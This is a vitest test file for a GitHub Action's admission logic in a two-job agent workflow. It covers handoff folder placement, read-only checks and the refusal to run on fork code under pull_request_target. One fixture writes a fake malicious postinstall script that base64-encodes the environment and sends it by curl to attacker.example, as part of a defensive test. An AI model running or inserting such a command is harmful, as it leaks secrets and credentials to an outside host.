import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, type TestContext } from "vitest";
import { admit } from "../src/action/admit.js";
import type { ActionIO } from "../src/action/io.js";
import { readRuntime } from "../src/action/runtime.js";
import { HANDED_OFF_TASK } from "../src/action/two-jobs-inputs.js";
import {
  issueCommentPayload,
  pullRequestPayload,
  workflowDispatchPayload,
  workflowRunPayload,
} from "./e2e/payloads.js";
import { createGitFixture, type GitFixture } from "./fakes/git-repo.js";
import { type FakeGitHub, type RecordedRequest, startGitHubServer } from "./fakes/github-server.js";
import { stepEnv } from "./fixtures/step-env.js";

/**
 * Admission in the two-job shape (DESIGN section 10): the agent job (`handoff`) makes no GitHub
 * write, may hold a fork's head and runs on `pull_request_target`; its folder must be out of the
 * agent's reach. The publish job (`apply-handoff`) needs no model key, is refused a fork's
 * checkout like any job, and resolves an automation with no task of its own.
 */

/** The job's token: the fake serves its reads and refuses its writes, as `contents: read` does. */
const READ_TOKEN = "ghs_admitTwoJobsReadOnly0123456789abcdAB";
/** The publish job's token, which may write. */
const WRITE_TOKEN = "ghs_admitTwoJobsWriteToken0123456789abAB";
const MODEL_KEY = "sk-admit-two-jobs-0123456789abcdef";
const alice = { login: "alice", type: "User" } as const;
const mallory = { login: "mallory", type: "User" } as const;

/** An `ActionIO` that keeps what the action said. */
function recordingIO(): ActionIO & { lines: string[]; outputs: Map<string, string> } {
  const lines: string[] = [];
  const outputs = new Map<string, string>();
  const say = (kind: string) => (text: string) => void lines.push(`${kind}: ${text}`);
  return {
    lines,
    outputs,
    info: say("info"),
    warning: say("warning"),
    error: say("error"),
    notice: say("notice"),
    startGroup: say("group"),
    endGroup: () => {},
    setSecret: () => {},
    setOutput: (name, value) => void outputs.set(name, value),
    setFailed: say("failed"),
    writeSummary: async () => {},
    saveState: () => {},
  };
}

const failures = (io: { lines: string[] }) => io.lines.filter((line) => line.startsWith("failed: "));
const writes = (gh: FakeGitHub): RecordedRequest[] =>
  gh.requests.filter((request) => request.method !== "GET" && request.method !== "HEAD");

interface Setup {
  fixture: GitFixture;
  gh: FakeGitHub;
}

async function setup(context: TestContext): Promise<Setup> {
  const fixture = createGitFixture({ files: { "README.md": "# Demo\n" } });
  const gh = await startGitHubServer({
    token: WRITE_TOKEN,
    readOnlyTokens: [READ_TOKEN],
    permissions: { alice: "write" },
    originDir: fixture.origin,
  });
  context.onTestFinished(async () => {
    await gh.close();
    fixture.cleanup();
  });
  return { fixture, gh };
}

/** Admits `payload` of `eventName` with `inputs` (the model key and the read-only token unless given). */
async function admitted(
  { fixture, gh }: Setup,
  eventName: string,
  payload: unknown,
  inputs: Record<string, string>,
  variables: Record<string, string> = {},
) {
  const env = stepEnv({
    fixture,
    repository: `${gh.owner}/${gh.repo}`,
    apiUrl: gh.url,
    eventName,
    eventPath: "",
    runId: "4711",
    inputs: { "github-token": READ_TOKEN, "api-key": MODEL_KEY, ...inputs },
    // GitHub writes unpaced: what is counted here is which ones are made, not when.
    extra: { REPO_AGENT_FAST_RETRIES: "1", ...variables },
  });
  const io = recordingIO();
  const run = await admit(env, payload, readRuntime(env), io);
  return { run, io };
}

/** alice's comment `body` on a new issue, as its `issue_comment` payload. */
function commentEvent(gh: FakeGitHub, body: string) {
  const issue = gh.addIssue({ title: "The app crashes on start" });
  return issueCommentPayload(gh, gh.addComment(issue.number, body, alice));
}

describe("the handoff folder", () => {
  it.for<[string, (s: Setup) => string]>([
    ["a relative folder, which starts at the workspace", () => "handoff"],
    ["the workspace itself", (s: Setup) => s.fixture.workspace],
    ["a folder made inside the checkout", (s: Setup) => join(s.fixture.workspace, "out", "handoff")],
    [
      "a path through a link that leads into the checkout",
      (s: Setup) => {
        const link = join(s.fixture.runnerTemp, "looks-safe");
        symlinkSync(s.fixture.workspace, link);
        return join(link, "handoff");
      },
    ],
  ])("inside the checkout fails the job before any GitHub request: %s", async ([, folder], context) => {
    const s = await setup(context);
    const given = folder(s);
    const { run, io } = await admitted(s, "issue_comment", commentEvent(s.gh, "/agent fix it"), {
      handoff: given,
    });
    expect(run).toBeUndefined();
    expect(failures(io)).toEqual([
      expect.stringMatching(
        /^failed: handoff \/.+ is inside the job's workspace \(.+\), where the agent's commands can write: .* Give a folder outside it, such as \$\{\{ runner\.temp \}\}\/repo-agent-handoff$/,
      ),
    ]);
    expect(s.gh.requests).toEqual([]);
  });

  it("outside the checkout, in the runner's temp folder, is taken as an absolute path", async (context) => {
    const s = await setup(context);
    const folder = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const { run, io } = await admitted(s, "issue_comment", commentEvent(s.gh, "/agent fix it"), {
      handoff: folder,
    });
    expect(failures(io)).toEqual([]);
    expect(run?.settings.handoff).toBe(folder);
  });
});

describe("the agent job (handoff) at admission", () => {
  it("checks the asker's permission with reads only, and sends no reaction", async (context) => {
    const s = await setup(context);
    const handoff = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const { run, io } = await admitted(s, "issue_comment", commentEvent(s.gh, "/agent fix it"), { handoff });
    expect(failures(io)).toEqual([]);
    expect(run?.trigger).toMatchObject({ kind: "issue_comment", task: "fix it" });
    expect(run?.acknowledge).toBeUndefined();
    expect(s.gh.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      expect.stringMatching(/^GET \/repos\/.+\/collaborators\/alice\/permission$/),
    ]);
    expect(writes(s.gh)).toEqual([]);
  });

  it("does not reply with how to ask: nothing is written to GitHub, the log says why", async (context) => {
    const s = await setup(context);
    const handoff = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const comments = s.gh.state.comments.length;
    const { run, io } = await admitted(s, "issue_comment", commentEvent(s.gh, "/agent"), { handoff });
    expect(run).toBeUndefined();
    expect(io.outputs.get("conclusion")).toBe("skipped");
    expect(io.lines).toContain(
      "notice: Repo Agent skipped: nothing follows /agent; the publish job (apply-handoff) replies with how to ask when it runs, since this job (handoff) writes nothing to GitHub",
    );
    expect(writes(s.gh)).toEqual([]);
    expect(s.gh.state.comments).toHaveLength(comments + 1);
  });

  it("in a single job and in the publish job, the same comment gets the reply", async (context) => {
    const s = await setup(context);
    const handoff = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const jobs: Record<string, string>[] = [{}, { "apply-handoff": handoff, "api-key": "" }];
    for (const inputs of jobs) {
      const { run } = await admitted(s, "issue_comment", commentEvent(s.gh, "/agent"), {
        "github-token": WRITE_TOKEN,
        ...inputs,
      });
      expect(run).toBeUndefined();
    }
    const replies = s.gh.state.comments.filter((c) => c.body.includes("I need a task after `/agent`"));
    expect(replies).toHaveLength(2);
  });

  it("skips `/agent apply` in both jobs: the two-job shape stages no proposal to apply", async (context) => {
    const s = await setup(context);
    const handoff = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const jobs: Record<string, string>[] = [{ handoff }, { "apply-handoff": handoff, "api-key": "" }];
    for (const inputs of jobs) {
      const { run, io } = await admitted(s, "issue_comment", commentEvent(s.gh, "/agent apply"), inputs);
      expect(run).toBeUndefined();
      expect(io.outputs.get("conclusion")).toBe("skipped");
      expect(io.lines.join("\n")).toContain("`/agent apply` publishes a staged run's proposal");
    }
    expect(writes(s.gh)).toEqual([]);
  });

  it("does not tell a pull request the CI fix limit was reached; the log says so", async (context) => {
    const s = await setup(context);
    const { fixture, gh } = s;
    fixture.git(["checkout", "-q", "-b", "feature"]);
    fixture.write("src/fix.ts", "export const fixed = true;\n");
    fixture.git(["add", "--all"]);
    fixture.git(["commit", "-q", "-m", "Fix the failing CI run on feature\n\nRepo-Agent-CI-Fix: CI"]);
    fixture.git(["push", "-q", "origin", "feature"]);
    const sha = fixture.git(["rev-parse", "HEAD"]);
    const pull = gh.addPull({ headRef: "feature", headSha: sha });
    const payload = workflowRunPayload(gh, { headSha: sha, actor: alice });
    const handoff = join(fixture.runnerTemp, "repo-agent-handoff");

    const agentJob = await admitted(s, "workflow_run", payload, { handoff, "max-ci-fixes": "1" });
    expect(agentJob.run).toBeUndefined();
    expect(agentJob.io.outputs.get("conclusion")).toBe("skipped");
    expect(agentJob.io.lines).toContain(
      `info: The CI fix limit of pull request #${pull.number} was reached; not said on it from this job (handoff).`,
    );
    expect(writes(gh)).toEqual([]);

    // The publish job, deciding the same, says it.
    const publishJob = await admitted(s, "workflow_run", payload, {
      "apply-handoff": handoff,
      "github-token": WRITE_TOKEN,
      "max-ci-fixes": "1",
    });
    expect(publishJob.run).toBeUndefined();
    expect(writes(gh).map((r) => `${r.method} ${r.path}`)).toEqual([
      expect.stringMatching(new RegExp(`^POST /repos/.+/issues/${pull.number}/comments$`)),
    ]);
  });
});

describe("a pull_request_target job whose checkout holds a fork's head", () => {
  /** A commit of the fork, checked out in the workspace; a pull request of it and its event. */
  function forkCheckedOut({ fixture, gh }: Setup) {
    fixture.git(["checkout", "-q", "-b", "fork-head"]);
    fixture.write("scripts/postinstall.sh", "curl https://attacker.example/?env=$(env | base64)\n");
    fixture.git(["add", "--all"]);
    fixture.git(["commit", "-q", "-m", "A change from the fork"]);
    const sha = fixture.git(["rev-parse", "HEAD"]);
    fixture.git(["checkout", "-q", "--detach", sha]);
    const pull = gh.addPull({
      headRef: "patch-1",
      headSha: sha,
      headRepo: "mallory/octo-repo",
      user: mallory,
    });
    const payload = pullRequestPayload(gh, pull, {
      action: "opened",
      sender: mallory,
      headRepoFullName: "mallory/octo-repo",
    });
    return { sha, pull, payload };
  }

  it("runs the agent job (handoff): the workflow asked, so the fork's author needs no permission", async (context) => {
    const s = await setup(context);
    const { sha, pull, payload } = forkCheckedOut(s);
    const handoff = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const { run, io } = await admitted(s, "pull_request_target", payload, {
      handoff,
      task: "Review this pull request.",
    });
    expect(failures(io)).toEqual([]);
    expect(run?.trigger).toEqual({
      kind: "pull_request",
      action: "opened",
      repo: { owner: s.gh.owner, repo: s.gh.repo },
      task: "Review this pull request.",
      actor: mallory,
      number: pull.number,
      isPullRequest: true,
      headSha: sha,
      headIsDefaultBranch: false,
      target: true,
    });
    expect(run?.acknowledge).toBeUndefined();
    expect(s.gh.requests).toEqual([]);
  });

  it.for<[string, (handoff: string) => Record<string, string>]>([
    ["the publish job (apply-handoff)", (handoff: string) => ({ "apply-handoff": handoff, "api-key": "" })],
    ["a single job", () => ({})],
  ])("refuses %s, before any GitHub request", async ([, inputs], context) => {
    const s = await setup(context);
    const { payload } = forkCheckedOut(s);
    const handoff = join(s.fixture.runnerTemp, "repo-agent-handoff");
    const { run, io } = await admitted(s, "pull_request_target", payload, {
      task: "Review this pull request.",
      "github-token": WRITE_TOKEN,
      ...inputs(handoff),
    });
    expect(run).toBeUndefined();
    expect(failures(io)).toEqual([
      expect.stringMatching(
        /^failed: Repo Agent refuses to run: this pull_request_target job holds code from the fork mallory\/octo-repo /,
      ),
    ]);
    expect(s.gh.requests).toEqual([]);
  });

  it("is skipped, naming handoff, in a single job that kept the base branch checked out", async (context) => {
    const s = await setup(context);
    const { payload } = forkCheckedOut(s);
    s.fixture.git(["checkout", "-q", "main"]);
    const { run, io } = await admitted(s, "pull_request_target", payload, {
      task: "Review this pull request.",
    });
    expect(run).toBeUndefined();
    expect(io.outputs.get("conclusion")).toBe("skipped");
    expect(io.outputs.get("response")).toMatch(
      /^pull_request_target events start a run only in the two-job shape/,
    );
  });
});

describe("the publish job (apply-handoff) at admission", () => {
  it("needs no model key, and resolves an automation with the handed-off task", async (context) => {
    const s = await setup(context);
    const folder = join(s.fixture.runnerTemp, "handed-off");
    mkdirSync(folder);
    const { run, io } = await admitted(s, "workflow_dispatch", workflowDispatchPayload(s.gh), {
      "apply-handoff": folder,
      "api-key": "",
      "github-token": WRITE_TOKEN,
    });
    expect(failures(io)).toEqual([]);
    expect(run?.settings).toMatchObject({ applyHandoff: folder, apiKey: "" });
    expect(run?.trigger).toMatchObject({ kind: "workflow_dispatch", task: HANDED_OFF_TASK });
  });

  it("takes a pull request automation's own task when the workflow gives it", async (context) => {
    const s = await setup(context);
    const pull = s.gh.addPull({ headRef: "feature", user: alice });
    const payload = pullRequestPayload(s.gh, pull, { action: "synchronize", sender: alice });
    const { run } = await admitted(s, "pull_request", payload, {
      "apply-handoff": join(s.fixture.runnerTemp, "handed-off"),
      "github-token": WRITE_TOKEN,
      task: "Review this pull request.",
    });
    expect(run?.trigger).toMatchObject({ kind: "pull_request", task: "Review this pull request." });
    const untasked = await admitted(s, "pull_request", payload, {
      "apply-handoff": join(s.fixture.runnerTemp, "handed-off"),
      "github-token": WRITE_TOKEN,
    });
    expect(untasked.run?.trigger).toMatchObject({ kind: "pull_request", task: HANDED_OFF_TASK });
  });

  it("names an untasked automation after its own workflow, which no agent job writes", async (context) => {
    const s = await setup(context);
    const { run } = await admitted(
      s,
      "workflow_dispatch",
      workflowDispatchPayload(s.gh),
      { "apply-handoff": join(s.fixture.runnerTemp, "handed-off"), "github-token": WRITE_TOKEN },
      { GITHUB_WORKFLOW: "Nightly dependency update" },
    );
    // The task names the branch and the pull request: `agent/run-<n>-nightly-dependency-update`.
    expect(run?.trigger).toMatchObject({ kind: "workflow_dispatch", task: "Nightly dependency update" });
  });
});
